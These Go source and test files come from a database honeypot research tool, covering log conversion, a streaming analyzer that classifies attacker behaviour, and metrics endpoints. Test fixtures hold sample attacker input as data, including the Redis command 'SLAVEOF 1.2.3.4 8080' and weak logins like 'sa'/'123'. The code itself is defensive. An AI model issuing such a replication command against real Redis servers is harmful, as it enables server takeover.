}
