package cliflags

import (
	"flag"
	"net/netip"

	"decoydb/internal/stream"
)

// Stream carries the -stream flag group after flag parsing. One flag
// attaches the online classification/clustering analyzer to the event
// path; the rest tune its bounds. Every event-handling binary (decoydb,
// dbsim, dbcollect) registers the same group, so the streaming knobs
// cannot drift between the live farm, the simulator and the collector.
type Stream struct {
	Enable      *bool
	MaxSources  *int
	AlertRing   *int
	Radius      *float64
	RefitEvery  *int
	MaxClusters *int
}

// RegisterStream registers the -stream flags on fs.
func RegisterStream(fs *flag.FlagSet) *Stream {
	return &Stream{
		Enable:      fs.Bool("stream", false, "attach the online behaviour analyzer: live classification, centroid clustering and transition alerts (/alerts, /clusters on -admin)"),
		MaxSources:  fs.Int("stream-sources", 0, "streaming: max sources tracked before LRU eviction (0 = default 65536)"),
		AlertRing:   fs.Int("stream-alerts", 0, "streaming: transition alerts retained for /alerts (0 = default 1024)"),
		Radius:      fs.Float64("stream-radius", 0, "streaming: distance beyond which a behaviour vector seeds a new cluster (0 = default 0.5)"),
		RefitEvery:  fs.Int("stream-refit", 0, "streaming: batches between mini Ward re-fits of the centroid set (0 = default 256)"),
		MaxClusters: fs.Int("stream-clusters", 0, "streaming: max live behaviour clusters (0 = default 64)"),
	}
}

// Enabled reports whether -stream was set.
func (s *Stream) Enabled() bool { return *s.Enable }

// Analyzer builds the analyzer from the parsed flags, or nil when the
// group is disabled.
func (s *Stream) Analyzer() *stream.Analyzer {
	if !s.Enabled() {
		return nil
	}
	return stream.New(stream.Options{
		MaxSources:       *s.MaxSources,
		AlertRing:        *s.AlertRing,
		NewClusterRadius: *s.Radius,
		RefitEvery:       *s.RefitEvery,
		MaxClusters:      *s.MaxClusters,
	})
}

// TraceVerdicts adapts an analyzer into the obs.TraceOptions.Verdicts
// feed, so /traces shows each active span's live streaming verdict. It
// returns nil for a nil analyzer, which TraceOptions treats as "no
// feed" — callers can wire it unconditionally.
func TraceVerdicts(an *stream.Analyzer) func(src netip.Addr) (string, bool) {
	if an == nil {
		return nil
	}
	return func(src netip.Addr) (string, bool) {
		b, ok := an.Verdict(src)
		return b.String(), ok
	}
}
