package cliflags

import (
	"flag"
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/core"
)

func TestStreamFlagDisabledByDefault(t *testing.T) {
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	sf := RegisterStream(fs)
	if err := fs.Parse(nil); err != nil {
		t.Fatal(err)
	}
	if sf.Enabled() {
		t.Fatal("stream enabled without -stream")
	}
	if an := sf.Analyzer(); an != nil {
		t.Fatal("Analyzer() != nil while disabled")
	}
	if fn := TraceVerdicts(nil); fn != nil {
		t.Fatal("TraceVerdicts(nil) should be nil so TraceOptions sees no feed")
	}
}

func TestStreamFlagBuildsAnalyzer(t *testing.T) {
	fs := flag.NewFlagSet("t", flag.ContinueOnError)
	sf := RegisterStream(fs)
	err := fs.Parse([]string{"-stream", "-stream-sources", "4", "-stream-alerts", "8"})
	if err != nil {
		t.Fatal(err)
	}
	an := sf.Analyzer()
	if an == nil {
		t.Fatal("Analyzer() == nil with -stream set")
	}
	src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, 1}), 40000)
	an.Record(core.Event{
		Time:     time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC),
		Src:      src,
		Honeypot: core.Info{DBMS: core.Redis, Level: core.Low},
		Kind:     core.EventCommand,
		Command:  "SLAVEOF",
	})
	fn := TraceVerdicts(an)
	if fn == nil {
		t.Fatal("TraceVerdicts(an) == nil")
	}
	if v, ok := fn(src.Addr()); !ok || v != "exploiting" {
		t.Fatalf("verdict feed = %q ok=%v, want exploiting", v, ok)
	}
	if _, ok := fn(netip.MustParseAddr("203.0.113.99")); ok {
		t.Fatal("verdict feed reported an untracked source")
	}
}
