// Package pipeline reproduces the paper's data-processing pipeline
// (Figure 1): honeypots write log files in their own formats; conversion
// readers standardise them; GeoIP/ASN enrichment is applied; and the
// result lands in a queryable evstore.Store.
//
// Two on-disk formats are produced, mirroring the heterogeneity of the
// real deployment: the low-interaction (Qeeqbox-style) honeypots log
// credential-centric records, while the medium/high honeypots log
// command-centric session records. Both are JSON lines, one file per
// (DBMS, config) pair — the same consolidation the paper's published
// dataset uses.
package pipeline

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
)

// qeeqboxRecord is the low-interaction log line shape (credential traps).
type qeeqboxRecord struct {
	Timestamp string `json:"timestamp"`
	Action    string `json:"action"` // "connection", "login", "disconnect"
	SrcIP     string `json:"src_ip"`
	SrcPort   uint16 `json:"src_port"`
	Server    string `json:"server"` // dbms name
	Username  string `json:"username,omitempty"`
	Password  string `json:"password,omitempty"`
	Instance  int    `json:"instance"`
	Group     string `json:"group"`
	VM        string `json:"vm"`
}

// sessionRecord is the medium/high-interaction log line shape.
type sessionRecord struct {
	Time    string `json:"time"`
	Addr    string `json:"addr"`
	Event   string `json:"event"` // "connect", "login", "command", "close"
	DBMS    string `json:"dbms"`
	Level   string `json:"level"`
	Config  string `json:"config"`
	Group   string `json:"group"`
	Region  string `json:"region,omitempty"`
	Inst    int    `json:"instance"`
	User    string `json:"user,omitempty"`
	Pass    string `json:"pass,omitempty"`
	OK      bool   `json:"ok,omitempty"`
	Command string `json:"cmd,omitempty"`
	Raw     string `json:"raw,omitempty"`
}

// LogWriter is a core.Sink that writes honeypot-native log files under a
// directory. It also implements bus.BatchSink: batch delivery takes the
// lock once and flushes each touched file once per batch, so at bus
// batch sizes the per-event cost is a buffered write. Close flushes and
// closes all files.
//
// Write errors are never silently swallowed: every failed event is
// counted (ErrCount), the first error is retained (Err, Close), and
// RecordBatch returns it to the caller — the bus surfaces it per sink.
type LogWriter struct {
	dir string

	mu       sync.Mutex
	files    map[string]*logFile
	err      error // first write error
	failures int64 // write/marshal/flush failures observed
}

type logFile struct {
	f *os.File
	w *bufio.Writer
}

// NewLogWriter creates (or reuses) dir and returns a writer.
func NewLogWriter(dir string) (*LogWriter, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("pipeline: create log dir: %w", err)
	}
	return &LogWriter{dir: dir, files: make(map[string]*logFile)}, nil
}

// Record implements core.Sink. Errors are counted and retained (see
// Err); per-event callers on the hot path should prefer the bus, which
// delivers batches via RecordBatch.
func (lw *LogWriter) Record(e core.Event) {
	lw.mu.Lock()
	defer lw.mu.Unlock()
	if _, err := lw.record(e); err != nil {
		lw.note(err)
	}
}

// RecordBatch implements bus.BatchSink: one lock and one flush per
// touched file per batch. It returns the first error of the batch.
func (lw *LogWriter) RecordBatch(events []core.Event) error {
	lw.mu.Lock()
	defer lw.mu.Unlock()
	var first error
	note := func(err error) {
		lw.note(err)
		if first == nil {
			first = err
		}
	}
	touched := make(map[*logFile]struct{}, 4)
	for _, e := range events {
		lf, err := lw.record(e)
		if err != nil {
			note(err)
			continue
		}
		touched[lf] = struct{}{}
	}
	for lf := range touched {
		if err := lf.w.Flush(); err != nil {
			note(err)
		}
	}
	return first
}

func (lw *LogWriter) record(e core.Event) (*logFile, error) {
	name := fmt.Sprintf("%s_%s_%s.json", e.Honeypot.DBMS, e.Honeypot.Group, e.Honeypot.Config)
	lf, ok := lw.files[name]
	if !ok {
		f, err := os.Create(filepath.Join(lw.dir, name))
		if err != nil {
			return nil, err
		}
		lf = &logFile{f: f, w: bufio.NewWriterSize(f, 64*1024)}
		lw.files[name] = lf
	}
	var line any
	if e.Honeypot.Level == core.Low {
		line = toQeeqbox(e)
	} else {
		line = toSession(e)
	}
	b, err := json.Marshal(line)
	if err != nil {
		return nil, err
	}
	b = append(b, '\n')
	if _, err := lf.w.Write(b); err != nil {
		return nil, err
	}
	return lf, nil
}

// note records a write failure, retaining the first error. Callers hold
// lw.mu.
func (lw *LogWriter) note(err error) {
	lw.failures++
	if lw.err == nil {
		lw.err = err
	}
}

// Err returns the first write error seen so far, or nil.
func (lw *LogWriter) Err() error {
	lw.mu.Lock()
	defer lw.mu.Unlock()
	return lw.err
}

// ErrCount reports the number of write failures observed.
func (lw *LogWriter) ErrCount() int64 {
	lw.mu.Lock()
	defer lw.mu.Unlock()
	return lw.failures
}

// Close flushes and closes every log file, returning the first error seen
// during writing or closing.
func (lw *LogWriter) Close() error {
	lw.mu.Lock()
	defer lw.mu.Unlock()
	err := lw.err
	for _, lf := range lw.files {
		if e := lf.w.Flush(); e != nil && err == nil {
			err = e
		}
		if e := lf.f.Close(); e != nil && err == nil {
			err = e
		}
	}
	lw.files = map[string]*logFile{}
	return err
}

func toQeeqbox(e core.Event) qeeqboxRecord {
	r := qeeqboxRecord{
		Timestamp: e.Time.UTC().Format(time.RFC3339Nano),
		SrcIP:     e.Src.Addr().String(),
		SrcPort:   e.Src.Port(),
		Server:    e.Honeypot.DBMS,
		Instance:  e.Honeypot.Instance,
		Group:     e.Honeypot.Group,
		VM:        e.Honeypot.VM,
	}
	switch e.Kind {
	case core.EventConnect:
		r.Action = "connection"
	case core.EventLogin:
		r.Action = "login"
		r.Username = e.User
		r.Password = e.Pass
	case core.EventCommand:
		r.Action = "command"
		r.Username = e.Command // qeeqbox abuses fields; conversion handles it
		r.Password = e.Raw
	case core.EventClose:
		r.Action = "disconnect"
	}
	return r
}

func toSession(e core.Event) sessionRecord {
	return sessionRecord{
		Time:    e.Time.UTC().Format(time.RFC3339Nano),
		Addr:    e.Src.String(),
		Event:   e.Kind.String(),
		DBMS:    e.Honeypot.DBMS,
		Level:   e.Honeypot.Level.String(),
		Config:  e.Honeypot.Config,
		Group:   e.Honeypot.Group,
		Region:  e.Honeypot.Region,
		Inst:    e.Honeypot.Instance,
		User:    e.User,
		Pass:    e.Pass,
		OK:      e.OK,
		Command: e.Command,
		Raw:     e.Raw,
	}
}

// Load parses every log file in dir, enriches sources against geo, and
// feeds the events into a new store covering [start, start+days).
func Load(dir string, start time.Time, days int, geo *geoip.DB) (*evstore.Store, error) {
	store := evstore.New(start, days, geo)
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("pipeline: read log dir: %w", err)
	}
	names := make([]string, 0, len(entries))
	for _, ent := range entries {
		if !ent.IsDir() && filepath.Ext(ent.Name()) == ".json" {
			names = append(names, ent.Name())
		}
	}
	sort.Strings(names)
	for _, name := range names {
		if err := loadFile(filepath.Join(dir, name), store); err != nil {
			return nil, fmt.Errorf("pipeline: %s: %w", name, err)
		}
	}
	return store, nil
}

func loadFile(path string, store *evstore.Store) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	r := bufio.NewReaderSize(f, 256*1024)
	lineNo := 0
	for {
		line, err := r.ReadBytes('\n')
		if len(line) > 1 {
			lineNo++
			ev, perr := parseLine(line)
			if perr != nil {
				return fmt.Errorf("line %d: %w", lineNo, perr)
			}
			store.Record(ev)
		}
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// parseLine converts either log format back into a core.Event. The two
// formats are distinguished by their marker fields ("server" vs "dbms"),
// playing the role of the paper's per-honeypot conversion scripts.
func parseLine(line []byte) (core.Event, error) {
	var probe struct {
		Server string `json:"server"`
		DBMS   string `json:"dbms"`
	}
	if err := json.Unmarshal(line, &probe); err != nil {
		return core.Event{}, err
	}
	if probe.Server != "" {
		var r qeeqboxRecord
		if err := json.Unmarshal(line, &r); err != nil {
			return core.Event{}, err
		}
		return fromQeeqbox(r)
	}
	var r sessionRecord
	if err := json.Unmarshal(line, &r); err != nil {
		return core.Event{}, err
	}
	return fromSession(r)
}

func fromQeeqbox(r qeeqboxRecord) (core.Event, error) {
	t, err := time.Parse(time.RFC3339Nano, r.Timestamp)
	if err != nil {
		return core.Event{}, err
	}
	addr, err := netip.ParseAddr(r.SrcIP)
	if err != nil {
		return core.Event{}, err
	}
	e := core.Event{
		Time: t,
		Src:  netip.AddrPortFrom(addr, r.SrcPort),
		Honeypot: core.Info{
			DBMS: r.Server, Level: core.Low, Port: core.DefaultPort(r.Server),
			Instance: r.Instance, Config: core.ConfigDefault, Group: r.Group, VM: r.VM,
		},
	}
	switch r.Action {
	case "connection":
		e.Kind = core.EventConnect
	case "login":
		e.Kind = core.EventLogin
		e.User, e.Pass = r.Username, r.Password
	case "command":
		e.Kind = core.EventCommand
		e.Command, e.Raw = r.Username, r.Password
	case "disconnect":
		e.Kind = core.EventClose
	default:
		return core.Event{}, fmt.Errorf("unknown qeeqbox action %q", r.Action)
	}
	return e, nil
}

func fromSession(r sessionRecord) (core.Event, error) {
	t, err := time.Parse(time.RFC3339Nano, r.Time)
	if err != nil {
		return core.Event{}, err
	}
	src, err := netip.ParseAddrPort(r.Addr)
	if err != nil {
		return core.Event{}, err
	}
	var level core.Level
	switch r.Level {
	case "low":
		level = core.Low
	case "medium":
		level = core.Medium
	case "high":
		level = core.High
	default:
		return core.Event{}, fmt.Errorf("unknown level %q", r.Level)
	}
	e := core.Event{
		Time: t,
		Src:  src,
		Honeypot: core.Info{
			DBMS: r.DBMS, Level: level, Port: core.DefaultPort(r.DBMS),
			Instance: r.Inst, Config: r.Config, Group: r.Group, Region: r.Region,
		},
		User: r.User, Pass: r.Pass, OK: r.OK,
		Command: r.Command, Raw: r.Raw,
	}
	switch r.Event {
	case "connect":
		e.Kind = core.EventConnect
	case "login":
		e.Kind = core.EventLogin
	case "command":
		e.Kind = core.EventCommand
	case "close":
		e.Kind = core.EventClose
	default:
		return core.Event{}, fmt.Errorf("unknown event %q", r.Event)
	}
	return e, nil
}
