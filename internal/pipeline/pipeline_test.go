package pipeline

import (
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
)

var start = core.ExperimentStart

func lowEvent(addr string, kind core.EventKind, user, pass string) core.Event {
	return core.Event{
		Time: start.Add(5 * time.Hour),
		Src:  netip.AddrPortFrom(netip.MustParseAddr(addr), 4000),
		Honeypot: core.Info{
			DBMS: core.MSSQL, Level: core.Low, Port: 1433,
			Instance: 3, Config: core.ConfigDefault, Group: core.GroupMulti, VM: "lo-multi-03",
		},
		Kind: kind, User: user, Pass: pass,
	}
}

func medEvent(addr string, kind core.EventKind, cmd, raw string) core.Event {
	return core.Event{
		Time: start.Add(30 * time.Hour),
		Src:  netip.AddrPortFrom(netip.MustParseAddr(addr), 5000),
		Honeypot: core.Info{
			DBMS: core.Redis, Level: core.Medium, Port: 6379,
			Instance: 1, Config: core.ConfigFakeData, Group: core.GroupMedium,
		},
		Kind: kind, Command: cmd, Raw: raw,
	}
}

func TestRoundTrip(t *testing.T) {
	dir := t.TempDir()
	lw, err := NewLogWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	// Use an address inside the default GeoIP plan so enrichment kicks in.
	alloc := geoip.Default().ByASN(4134)[0]
	b := alloc.Prefix.Addr().As4()
	cnAddr := netip.AddrFrom4([4]byte{b[0], b[1], 7, 7}).String()

	lw.Record(lowEvent(cnAddr, core.EventConnect, "", ""))
	lw.Record(lowEvent(cnAddr, core.EventLogin, "sa", "123"))
	lw.Record(lowEvent(cnAddr, core.EventClose, "", ""))
	lw.Record(medEvent("20.0.77.1", core.EventConnect, "", ""))
	lw.Record(medEvent("20.0.77.1", core.EventCommand, "SLAVEOF", "SLAVEOF 1.2.3.4 8080"))
	lw.Record(medEvent("20.0.77.1", core.EventClose, "", ""))
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}

	// Files exist per (dbms, group, config).
	files, _ := os.ReadDir(dir)
	if len(files) != 2 {
		t.Fatalf("log files = %d", len(files))
	}

	store, err := Load(dir, start, 20, geoip.Default())
	if err != nil {
		t.Fatal(err)
	}
	if store.Events() != 6 {
		t.Fatalf("events = %d", store.Events())
	}
	rec := store.IP(netip.MustParseAddr(cnAddr))
	if rec == nil {
		t.Fatal("low-tier source missing")
	}
	if rec.Country != "CN" || rec.ASName != "Chinanet" {
		t.Fatalf("enrichment = %+v", rec)
	}
	if rec.TotalLogins() != 1 {
		t.Fatalf("logins = %d", rec.TotalLogins())
	}
	creds := store.Creds(evstore.Query{DBMS: core.MSSQL})
	if len(creds) != 1 || creds[0].User != "sa" || creds[0].Pass != "123" {
		t.Fatalf("creds = %v", creds)
	}

	med := store.IP(netip.MustParseAddr("20.0.77.1"))
	if med == nil {
		t.Fatal("medium-tier source missing")
	}
	var sawSlaveof bool
	for k, a := range med.Per {
		if k.DBMS == core.Redis && k.Level == core.Medium && k.Config == core.ConfigFakeData {
			for _, act := range a.Actions {
				if act.Name == "SLAVEOF" && act.Raw == "SLAVEOF 1.2.3.4 8080" {
					sawSlaveof = true
				}
			}
		}
	}
	if !sawSlaveof {
		t.Fatal("command lost in round trip")
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "bad.json"), []byte("{not json}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, start, 20, nil); err == nil {
		t.Fatal("garbage log accepted")
	}
}

func TestLoadSkipsNonJSON(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "README.txt"), []byte("notes"), 0o644); err != nil {
		t.Fatal(err)
	}
	store, err := Load(dir, start, 20, nil)
	if err != nil {
		t.Fatal(err)
	}
	if store.Events() != 0 {
		t.Fatal("events from non-JSON file")
	}
}

func TestUnknownActionRejected(t *testing.T) {
	dir := t.TempDir()
	line := `{"timestamp":"2024-03-22T01:00:00Z","action":"explode","src_ip":"1.2.3.4","server":"mysql"}` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "x.json"), []byte(line), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, start, 20, nil); err == nil {
		t.Fatal("unknown action accepted")
	}
}

func TestBadLevelRejected(t *testing.T) {
	dir := t.TempDir()
	line := `{"time":"2024-03-22T01:00:00Z","addr":"1.2.3.4:55","event":"connect","dbms":"redis","level":"ultra","config":"default","group":"medium"}` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "x.json"), []byte(line), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, start, 20, nil); err == nil {
		t.Fatal("unknown level accepted")
	}
}

func TestBadEventRejected(t *testing.T) {
	dir := t.TempDir()
	line := `{"time":"2024-03-22T01:00:00Z","addr":"1.2.3.4:55","event":"explode","dbms":"redis","level":"medium","config":"default","group":"medium"}` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "x.json"), []byte(line), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, start, 20, nil); err == nil {
		t.Fatal("unknown event accepted")
	}
}

func TestBadAddressRejected(t *testing.T) {
	dir := t.TempDir()
	line := `{"time":"2024-03-22T01:00:00Z","addr":"not-an-addr","event":"connect","dbms":"redis","level":"medium","config":"default","group":"medium"}` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "x.json"), []byte(line), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, start, 20, nil); err == nil {
		t.Fatal("unparseable address accepted")
	}
}

func TestLoadMissingDir(t *testing.T) {
	if _, err := Load("/nonexistent-dir-xyz", start, 20, nil); err == nil {
		t.Fatal("missing directory accepted")
	}
}

func TestLogWriterAllLevelsRoundTrip(t *testing.T) {
	// A high-interaction mongo event with every field set survives the
	// session-record format.
	dir := t.TempDir()
	lw, err := NewLogWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	e := core.Event{
		Time: start.Add(90 * time.Hour),
		Src:  netip.AddrPortFrom(netip.MustParseAddr("20.1.2.3"), 999),
		Honeypot: core.Info{
			DBMS: core.MongoDB, Level: core.High, Port: 27017,
			Instance: 2, Config: core.ConfigFakeData, Group: core.GroupHigh, Region: "SG",
		},
		Kind: core.EventLogin, User: "u", Pass: "p", OK: true,
	}
	lw.Record(e)
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	store, err := Load(dir, start, 20, nil)
	if err != nil {
		t.Fatal(err)
	}
	rec := store.IP(netip.MustParseAddr("20.1.2.3"))
	if rec == nil {
		t.Fatal("record missing")
	}
	for k, a := range rec.Per {
		if k.Level != core.High || k.Config != core.ConfigFakeData || a.LoginOK != 1 {
			t.Fatalf("round trip lost fields: %+v %+v", k, a)
		}
	}
}

func TestRecordBatchRoundTrip(t *testing.T) {
	dir := t.TempDir()
	lw, err := NewLogWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	batch := []core.Event{
		lowEvent("203.0.113.9", core.EventConnect, "", ""),
		lowEvent("203.0.113.9", core.EventLogin, "sa", "123"),
		medEvent("20.0.77.2", core.EventConnect, "", ""),
		medEvent("20.0.77.2", core.EventCommand, "KEYS", "KEYS *"),
	}
	if err := lw.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
	// Batch delivery flushes each touched file, so the lines are on
	// disk before Close — the durability property the bus relies on.
	store0, err := Load(dir, start, 20, nil)
	if err != nil {
		t.Fatal(err)
	}
	if store0.Events() != int64(len(batch)) {
		t.Fatalf("events on disk before Close = %d, want %d", store0.Events(), len(batch))
	}
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	if n := lw.ErrCount(); n != 0 {
		t.Fatalf("failures = %d", n)
	}
}

func TestWriteErrorsCountedAndSurfaced(t *testing.T) {
	dir := t.TempDir()
	lw, err := NewLogWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	// Sabotage the directory so new log files cannot be created.
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	lw.Record(lowEvent("203.0.113.9", core.EventConnect, "", ""))
	if lw.Err() == nil {
		t.Fatal("write error swallowed")
	}
	if lw.ErrCount() != 1 {
		t.Fatalf("failures = %d, want 1", lw.ErrCount())
	}
	if err := lw.RecordBatch([]core.Event{
		lowEvent("203.0.113.9", core.EventLogin, "sa", "1"),
		lowEvent("203.0.113.9", core.EventClose, "", ""),
	}); err == nil {
		t.Fatal("RecordBatch did not return the write error")
	}
	if lw.ErrCount() != 3 {
		t.Fatalf("failures = %d, want 3", lw.ErrCount())
	}
	if err := lw.Close(); err == nil {
		t.Fatal("Close did not surface the first write error")
	}
}
