package obs

import (
	"context"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/stream"
)

func streamAnalyzer(t *testing.T) *stream.Analyzer {
	t.Helper()
	an := stream.New(stream.Options{})
	hp := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
	src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, 7}), 40000)
	err := an.RecordBatch([]core.Event{
		{Time: traceStart, Src: src, Honeypot: hp, Kind: core.EventCommand, Command: "INFO"},
		{Time: traceStart.Add(time.Second), Src: src, Honeypot: hp, Kind: core.EventCommand, Command: "SLAVEOF"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return an
}

func TestStreamEndpoints(t *testing.T) {
	an := streamAnalyzer(t)
	s := NewServer(ServerOptions{Registry: NewRegistry(), Stream: an})
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()

	c := NewClient(srv.URL, time.Second)
	page, err := c.Alerts(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	if page.Stats.Escalations != 1 || page.Stats.NewClusters != 1 {
		t.Fatalf("alert stats over the wire = %+v", page.Stats)
	}
	var esc *stream.Alert
	for i := range page.Alerts {
		if page.Alerts[i].Kind == stream.EscalationAlert {
			esc = &page.Alerts[i]
		}
	}
	if esc == nil || esc.Src != "203.0.113.7" || esc.Action != "SLAVEOF" {
		t.Fatalf("escalation alert over the wire = %+v", page.Alerts)
	}

	cl, err := c.Clusters(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(cl.Clusters) != 1 || cl.Clusters[0].Members != 1 {
		t.Fatalf("clusters over the wire = %+v", cl.Clusters)
	}
	if len(cl.Clusters[0].TopActions) == 0 {
		t.Fatalf("cluster has no top actions: %+v", cl.Clusters[0])
	}

	// The scrape-time source is registered and exposes the alert counters.
	code, body := get(t, srv, "/metrics")
	if code != 200 {
		t.Fatalf("/metrics: %d", code)
	}
	if !strings.Contains(body, `decoydb_stream_alerts_total{kind="escalation"} 1`) {
		t.Fatalf("/metrics missing stream alert counter:\n%s", body)
	}
	if !strings.Contains(body, "decoydb_stream_sources 1") {
		t.Fatalf("/metrics missing stream sources gauge:\n%s", body)
	}

	// The index advertises the new endpoints.
	if _, idx := get(t, srv, "/"); !strings.Contains(idx, "/alerts") || !strings.Contains(idx, "/clusters") {
		t.Fatalf("index missing stream endpoints:\n%s", idx)
	}

	// Bad limit is a 400, not a panic.
	if code, _ := get(t, srv, "/alerts?limit=bogus"); code != 400 {
		t.Fatalf("/alerts?limit=bogus: %d, want 400", code)
	}
}

func TestTraceLiveVerdictFeed(t *testing.T) {
	an := streamAnalyzer(t)
	tr := NewTraceRing(TraceOptions{
		Verdicts: func(src netip.Addr) (string, bool) {
			b, ok := an.Verdict(src)
			return b.String(), ok
		},
	})
	hp := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
	tracked := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, 7}), 41000)
	unknown := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, 99}), 41000)
	// The tracked source opens a fresh session that has produced nothing
	// yet: the span-local verdict says scanning, but the analyzer already
	// knows this source escalated in an earlier session.
	tr.Record(core.Event{Time: traceStart, Src: tracked, Honeypot: hp, Kind: core.EventConnect})
	tr.Record(core.Event{Time: traceStart, Src: unknown, Honeypot: hp, Kind: core.EventConnect})

	for _, sp := range tr.Active(0) {
		switch sp.Src {
		case tracked.String():
			if sp.Verdict != "scanning" || sp.Live != "exploiting" {
				t.Fatalf("tracked span: verdict=%q live=%q, want scanning/exploiting", sp.Verdict, sp.Live)
			}
		case unknown.String():
			if sp.Live != "" {
				t.Fatalf("unknown span has live verdict %q", sp.Live)
			}
		}
	}
}
