// Package obs is the observability plane: a concurrency-safe metric
// registry with Prometheus text exposition, scrape-time adapters that
// map every subsystem's existing Stats snapshot into metrics, an admin
// HTTP server (/metrics, /healthz, /statusz, /debug/pprof, /traces,
// /query), and a bounded ring of attack-session trace spans.
//
// The paper's 278-node deployment shipped everything to one analysis
// host and judged the pipeline offline; operating that pipeline needs
// the inverse: seeing loss, lag and attacker behaviour while the
// capture is running. The design principle throughout is *scrape-time
// adaptation*: the hot paths (bus workers, relay pump, WAL appends)
// keep their existing cheap counters, and only when a scraper asks does
// an adapter take one Stats() snapshot and translate it — zero
// instrumentation cost when nobody is watching, one snapshot per scrape
// when somebody is.
package obs

import (
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/core"
)

// Source is one registered stats provider: it names itself for the
// /statusz JSON object, contributes metric samples at scrape time, and
// returns a JSON-marshalable snapshot for /statusz. Adapters over the
// existing Stats types (bus, relay, wal, evstore) implement it, as do
// the live instruments (Counter, Gauge, Histogram).
type Source interface {
	// Name keys this source in /statusz and names instrument metrics.
	Name() string
	// Collect contributes metric samples; called per /metrics scrape.
	Collect(e *Emitter)
	// Status returns the point-in-time snapshot rendered in /statusz.
	Status() any
}

// Registry holds the registered sources. It is safe for concurrent
// registration and scraping, and implements no caching: every scrape
// reflects the live counters.
type Registry struct {
	mu      sync.Mutex
	sources []Source
	names   map[string]int // registered name -> count, for #N suffixing
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{names: make(map[string]int)}
}

// named wraps a Source to override its name — used when two sources of
// the same name register (suffix #N, mirroring the bus's sink naming).
type named struct {
	Source
	name string
}

func (n named) Name() string { return n.name }

// Register adds a source. A name collision gets a 1-based "#N" suffix
// (registration order preserved), so two WAL logs or two buses stay
// distinguishable rather than silently shadowing each other.
func (r *Registry) Register(s Source) {
	r.mu.Lock()
	defer r.mu.Unlock()
	name := s.Name()
	r.names[name]++
	if n := r.names[name]; n > 1 {
		s = named{Source: s, name: fmt.Sprintf("%s#%d", name, n)}
	}
	r.sources = append(r.sources, s)
}

// snapshotSources copies the source list so scrapes never hold the
// registration lock while calling into collectors.
func (r *Registry) snapshotSources() []Source {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Source(nil), r.sources...)
}

// WriteMetrics scrapes every source and writes the Prometheus text
// exposition (version 0.0.4): families sorted by name, HELP/TYPE
// emitted once per family, label values escaped.
func (r *Registry) WriteMetrics(w io.Writer) error {
	e := NewEmitter()
	for _, s := range r.snapshotSources() {
		s.Collect(e)
	}
	return e.Write(w)
}

// Status scrapes every source's Status snapshot, keyed by source name —
// the /statusz payload.
func (r *Registry) Status() map[string]any {
	out := make(map[string]any)
	for _, s := range r.snapshotSources() {
		out[s.Name()] = s.Status()
	}
	return out
}

// Label is one metric label pair.
type Label struct {
	Name  string
	Value string
}

// L is shorthand for building a Label.
func L(name, value string) Label { return Label{Name: name, Value: value} }

// metricKind is the TYPE line of a family.
type metricKind string

const (
	kindCounter   metricKind = "counter"
	kindGauge     metricKind = "gauge"
	kindHistogram metricKind = "histogram"
)

// sample is one exposition line within a family.
type sample struct {
	suffix string // "", "_bucket", "_sum", "_count"
	labels []Label
	value  float64
}

// family is one metric name with its HELP/TYPE and samples.
type family struct {
	name    string
	help    string
	kind    metricKind
	samples []sample
}

// Emitter accumulates samples during one scrape pass. It is not safe
// for concurrent use; each scrape builds its own.
type Emitter struct {
	fams map[string]*family
}

// NewEmitter returns an empty emitter.
func NewEmitter() *Emitter {
	return &Emitter{fams: make(map[string]*family)}
}

